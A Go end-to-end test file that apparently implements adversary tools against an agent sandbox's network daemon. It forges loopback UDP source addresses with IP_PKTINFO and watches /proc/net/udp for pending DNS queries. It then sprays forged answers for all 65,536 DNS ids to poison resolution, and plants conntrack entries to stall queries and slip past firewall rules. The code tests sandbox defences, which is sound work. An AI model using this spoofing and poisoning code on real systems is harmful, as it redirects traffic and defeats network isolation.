//go:build e2e

package main

import (
	"bufio"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"os"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/miekg/dns"
)

// More of the adversary's tools against the shared namespace (issue 14): forging the source of a
// datagram to any loopback address with IP_PKTINFO, which needs no capability, and using it to
// answer a query netd is waiting for. A forged packet that matches the reply direction of one of
// netd's own flows is "established" for conntrack, so it passes the ruleset before any rule about
// sources is reached.

const ns2Usage = `       claude net udp-sockets                          the namespace's UDP sockets, from /proc/net/udp
       claude net pktinfo-send BIND SRC DST            one datagram from a socket bound to BIND, with source SRC (IP_PKTINFO)
       claude net spoof-race NAME ANSWER SECONDS [plant]
                                                    watch /proc/net/udp for netd's queries to 127.0.0.11:53 and answer
                                                    each with every DNS id, NAME → ANSWER, forged from Docker's resolver
                                                    (and from netd's own resolver when plant: first plant conntrack entries
                                                    that send netd's queries to netd itself, to keep them waiting)
       claude net plant SECONDS                        for SECONDS, every 10 s, send one byte from every free ephemeral port
                                                    of 127.0.0.1 to 127.0.0.11:53 (see spoof-race)
       claude net http-stream drip|sink ADDR:PORT HOST SECONDS MARKER
                                                    one long HTTP exchange with testsrv: a slow download or upload`

// ns2Probe runs one of the tools of this file, or reports that args are not one.
func ns2Probe(args []string) (map[string]any, bool) {
	switch args[0] {
	case "udp-sockets":
		return udpSockets(), true
	case "pktinfo-send":
		return pktinfoSend(args[1:]), true
	case "spoof-race":
		return spoofRace(args[1:]), true
	case "plant":
		return plant(args[1:]), true
	case "http-stream":
		return httpStream(args[1:]), true
	}
	return nil, false
}

// udpSocket is one line of /proc/net/udp.
type udpSocket struct {
	Local  netipPort `json:"local"`
	Remote netipPort `json:"remote"`
	UID    int       `json:"uid"`
}

// netipPort is an IPv4 address and port as /proc/net/udp has them.
type netipPort struct {
	IP   [4]byte
	Port int
}

func (a netipPort) String() string {
	return fmt.Sprintf("%d.%d.%d.%d:%d", a.IP[0], a.IP[1], a.IP[2], a.IP[3], a.Port)
}

func (a netipPort) MarshalText() ([]byte, error) { return []byte(a.String()), nil }

// parseProcAddr reads "0100007F:3BF9": the address in host (little-endian) order, the port in hex.
func parseProcAddr(s string) (netipPort, error) {
	h, p, ok := strings.Cut(s, ":")
	if !ok || len(h) != 8 {
		return netipPort{}, fmt.Errorf("address %q", s)
	}
	v, err := strconv.ParseUint(h, 16, 32)
	if err != nil {
		return netipPort{}, err
	}
	port, err := strconv.ParseUint(p, 16, 16)
	if err != nil {
		return netipPort{}, err
	}
	var a netipPort
	binary.LittleEndian.PutUint32(a.IP[:], uint32(v))
	a.Port = int(port)
	return a, nil
}

// readUDPSockets parses /proc/net/udp: every UDP socket of the namespace, whoever owns it.
func readUDPSockets() ([]udpSocket, error) {
	data, err := os.ReadFile("/proc/net/udp")
	if err != nil {
		return nil, err
	}
	var out []udpSocket
	for _, l := range strings.Split(string(data), "\n")[1:] {
		f := strings.Fields(l)
		if len(f) < 8 {
			continue
		}
		loc, err1 := parseProcAddr(f[1])
		rem, err2 := parseProcAddr(f[2])
		uid, err3 := strconv.Atoi(f[7])
		if errors.Join(err1, err2, err3) != nil {
			continue
		}
		out = append(out, udpSocket{Local: loc, Remote: rem, UID: uid})
	}
	return out, nil
}

func udpSockets() map[string]any {
	s, err := readUDPSockets()
	if err != nil {
		return failed(err)
	}
	return map[string]any{"ok": true, "sockets": s}
}

// forger sends datagrams whose source is any local (loopback) address: the socket is bound to
// another loopback address on the wanted port, and IP_PKTINFO names the source of each packet.
type forger struct {
	fd  int
	oob []byte
}

// newForger binds a UDP socket to bind and forges src as the source address of what it sends.
func newForger(bind *net.UDPAddr, src net.IP) (*forger, error) {
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_DGRAM, 0)
	if err != nil {
		return nil, err
	}
	if err := syscall.Bind(fd, sockaddr(bind)); err != nil {
		syscall.Close(fd)
		return nil, fmt.Errorf("bind %s: %w", bind, err)
	}
	// struct cmsghdr { u64 len; i32 level; i32 type } + struct in_pktinfo { i32 ifindex; spec_dst; addr }.
	oob := make([]byte, syscall.CmsgSpace(12))
	binary.NativeEndian.PutUint64(oob[0:], uint64(syscall.CmsgLen(12)))
	binary.NativeEndian.PutUint32(oob[8:], syscall.IPPROTO_IP)
	binary.NativeEndian.PutUint32(oob[12:], syscall.IP_PKTINFO)
	copy(oob[syscall.CmsgLen(0)+4:], src.To4())
	return &forger{fd: fd, oob: oob}, nil
}

func (f *forger) send(b []byte, to *net.UDPAddr) error {
	return syscall.Sendmsg(f.fd, b, f.oob, sockaddr(to), 0)
}

func (f *forger) close() { syscall.Close(f.fd) }

// pktinfoSend sends one datagram from a socket bound to BIND, forging SRC as its source address:
// ok when the kernel sent it (the ruleset may still refuse it, which is an error here).
func pktinfoSend(args []string) map[string]any {
	if len(args) < 3 {
		return map[string]any{"ok": false, "error": "need BIND SRC DST"}
	}
	bind, err1 := net.ResolveUDPAddr("udp4", args[0])
	dst, err2 := net.ResolveUDPAddr("udp4", args[2])
	src := net.ParseIP(args[1])
	if err := errors.Join(err1, err2); err != nil || src.To4() == nil {
		return map[string]any{"ok": false, "error": fmt.Sprintf("bad arguments: %v", err)}
	}
	f, err := newForger(bind, src)
	if err != nil {
		return failed(err)
	}
	defer f.close()
	if err := f.send([]byte("forged"), dst); err != nil {
		return failed(fmt.Errorf("sendmsg: %w", err))
	}
	return map[string]any{"ok": true}
}

// dockerResolverPort is the UDP port Docker's embedded resolver really listens on at 127.0.0.11
// (its nat rules DNAT port 53 there), as /proc/net/udp shows it to anyone.
func dockerResolverPort() (int, error) {
	socks, err := readUDPSockets()
	if err != nil {
		return 0, err
	}
	for _, s := range socks {
		if s.Local.IP == [4]byte{127, 0, 0, 11} && s.Remote.Port == 0 {
			return s.Local.Port, nil
		}
	}
	return 0, errors.New("no UDP socket on 127.0.0.11")
}

// spoofRace answers netd's upstream queries for NAME before Docker can. It polls /proc/net/udp
// for sockets connected to 127.0.0.11:53 — netd's queries, whose local port anyone can read
// there — and sends each one answer per DNS id (65,536), NAME A ANSWER, with the source address
// and port of the reply netd waits for: Docker's resolver (127.0.0.11 and its real port), or,
// with plant, netd's own resolver port on 127.0.0.1. plant first sends a datagram from every
// ephemeral port of 127.0.0.1 to 127.0.0.11:53: the ruleset redirects the agent's DNS to netd,
// conntrack remembers that, and a later query of netd's own from the same port follows the
// same entry — to netd's resolver, which asks again, and so on, so the query waits long enough
// for 65,536 answers. ok when a query was answered by every id.
func spoofRace(args []string) map[string]any {
	if len(args) < 3 {
		return map[string]any{"ok": false, "error": "need NAME ANSWER SECONDS [plant]"}
	}
	name := dns.Fqdn(args[0])
	answer := net.ParseIP(args[1]).To4()
	secs, err := strconv.Atoi(args[2])
	if answer == nil || err != nil {
		return map[string]any{"ok": false, "error": "ANSWER must be an IPv4 address and SECONDS a number"}
	}
	plant := len(args) > 3 && args[3] == "plant"
	deadline := time.Now().Add(time.Duration(secs) * time.Second)
	res := map[string]any{"ok": false}
	rport, err := dockerResolverPort()
	if err != nil {
		return failed(err)
	}
	res["docker_port"] = rport
	// Several sockets share the ids, each bound to a loopback address of its own on the port
	// the forged replies must come from.
	var forgers [][]*forger
	for i, src := range []struct {
		ip   net.IP
		port int
	}{{net.IPv4(127, 0, 0, 11), rport}, {net.IPv4(127, 0, 0, 1), 15353}} {
		if i == 1 && !plant {
			break
		}
		var group []*forger
		for w := range sprayWorkers {
			f, err := newForger(&net.UDPAddr{IP: net.IPv4(127, 0, byte(20+i), byte(1+w)), Port: src.port}, src.ip)
			if err != nil {
				return failed(err)
			}
			defer f.close()
			group = append(group, f)
		}
		forgers = append(forgers, group)
	}
	if plant {
		res["planted"] = plantAll()
		go func() {
			for time.Now().Before(deadline) {
				time.Sleep(10 * time.Second)
				plantAll()
			}
		}()
	}
	msg := new(dns.Msg)
	msg.SetQuestion(name, dns.TypeA)
	msg.Response, msg.RecursionAvailable = true, true
	msg.Answer = []dns.RR{&dns.A{Hdr: dns.RR_Header{Name: name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 3600}, A: answer}}
	tmpl, err := msg.Pack()
	if err != nil {
		return failed(err)
	}
	seen := map[int]bool{}
	var sprayed []int
	var sent, sendErrs atomic.Int64
	var firstErr atomic.Value
	var sprayMS atomic.Int64
	var wg sync.WaitGroup
	for time.Now().Before(deadline) {
		socks, _ := readUDPSockets()
		for _, s := range socks {
			if s.Remote.IP != [4]byte{127, 0, 0, 11} || s.Remote.Port != 53 || seen[s.Local.Port] {
				continue
			}
			seen[s.Local.Port] = true
			sprayed = append(sprayed, s.Local.Port)
			to := &net.UDPAddr{IP: net.IP(s.Local.IP[:]), Port: s.Local.Port}
			for _, group := range forgers {
				for w, f := range group {
					wg.Add(1)
					go func() {
						defer wg.Done()
						start := time.Now()
						b := append([]byte(nil), tmpl...)
						for id := w; id < 1<<16; id += len(group) {
							binary.BigEndian.PutUint16(b, uint16(id))
							if err := f.send(b, to); err != nil {
								sendErrs.Add(1)
								firstErr.CompareAndSwap(nil, err.Error())
							} else {
								sent.Add(1)
							}
						}
						sprayMS.Store(time.Since(start).Milliseconds())
					}()
				}
			}
		}
		time.Sleep(500 * time.Microsecond)
	}
	wg.Wait()
	res["sprayed_ports"], res["sent"], res["send_errors"], res["spray_ms"] = sprayed, sent.Load(), sendErrs.Load(), sprayMS.Load()
	if e := firstErr.Load(); e != nil {
		res["first_send_error"] = e
	}
	res["ok"] = len(sprayed) > 0
	return res
}

// sprayWorkers is how many sockets share the 65,536 ids of one spray.
const sprayWorkers = 4

// plant runs [plantAll] every 10 s for SECONDS: ok when it sent anything.
func plant(args []string) map[string]any {
	if len(args) < 1 {
		return map[string]any{"ok": false, "error": "need SECONDS"}
	}
	secs, _ := strconv.Atoi(args[0])
	deadline := time.Now().Add(time.Duration(secs) * time.Second)
	rounds, sent := 0, 0
	for time.Now().Before(deadline) {
		sent += plantAll()
		rounds++
		time.Sleep(min(10*time.Second, time.Until(deadline)))
	}
	return map[string]any{"ok": sent > 0, "sent": sent, "rounds": rounds}
}

// plantAll sends one byte from every free ephemeral port of 127.0.0.1 to 127.0.0.11:53 and
// returns how many it sent.
func plantAll() int {
	n := 0
	dst := &syscall.SockaddrInet4{Port: 53, Addr: [4]byte{127, 0, 0, 11}}
	for p := ephemeralLo; p <= ephemeralHi; p++ {
		fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_DGRAM, 0)
		if err != nil {
			continue
		}
		if syscall.Bind(fd, &syscall.SockaddrInet4{Port: p, Addr: [4]byte{127, 0, 0, 1}}) == nil &&
			syscall.Sendto(fd, []byte{0}, 0, dst) == nil {
			n++
		}
		syscall.Close(fd)
	}
	return n
}

// httpStream holds one long plain-HTTP exchange with testsrv through netd's HTTP proxy, which
// decided on the Host once, at the start: drip downloads /drip/SECONDS, a line every 200 ms;
// sink uploads a line every 200 ms for SECONDS as the chunked body of POST /sink. MARKER is
// created once the first line went through. ok when the exchange lasted; else when it broke.
func httpStream(args []string) map[string]any {
	if len(args) < 5 || (args[0] != "drip" && args[0] != "sink") {
		return map[string]any{"ok": false, "error": "need drip|sink ADDR:PORT HOST SECONDS MARKER"}
	}
	mode, host, marker := args[0], args[2], args[4]
	secs, _ := strconv.Atoi(args[3])
	c, err := net.DialTimeout("tcp4", args[1], 5*time.Second)
	if err != nil {
		return failed(err)
	}
	defer c.Close()
	start := time.Now()
	broke := func(rounds int, err error) map[string]any {
		return map[string]any{"ok": false, "error": err.Error(), "rounds": rounds, "broke_after_s": time.Since(start).Seconds()}
	}
	touch := func() {
		if f, err := os.Create(marker); err == nil {
			f.Close()
		}
	}
	r := bufio.NewReader(c)
	if mode == "drip" {
		fmt.Fprintf(c, "GET /drip/%d HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", secs, host)
		rounds := 0
		for {
			c.SetReadDeadline(time.Now().Add(3 * time.Second))
			l, err := r.ReadString('\n')
			if err != nil {
				if rounds == secs*5 {
					return map[string]any{"ok": true, "rounds": rounds}
				}
				return broke(rounds, err)
			}
			if strings.HasPrefix(l, "drip ") {
				if rounds++; rounds == 1 {
					touch()
				}
			}
		}
	}
	fmt.Fprintf(c, "POST /sink HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n", host)
	rounds := 0
	for time.Since(start) < time.Duration(secs)*time.Second {
		line := fmt.Sprintf("sink %d\n", rounds)
		c.SetWriteDeadline(time.Now().Add(3 * time.Second))
		if _, err := fmt.Fprintf(c, "%x\r\n%s\r\n", len(line), line); err != nil {
			return broke(rounds, err)
		}
		if rounds++; rounds == 1 {
			touch()
		}
		time.Sleep(200 * time.Millisecond)
	}
	fmt.Fprint(c, "0\r\n\r\n")
	c.SetReadDeadline(time.Now().Add(5 * time.Second))
	status, err := r.ReadString('\n')
	if err != nil {
		return broke(rounds, fmt.Errorf("status: %w", err))
	}
	return map[string]any{"ok": strings.Contains(status, " 200 "), "rounds": rounds, "reply": strings.TrimSpace(status)}
}
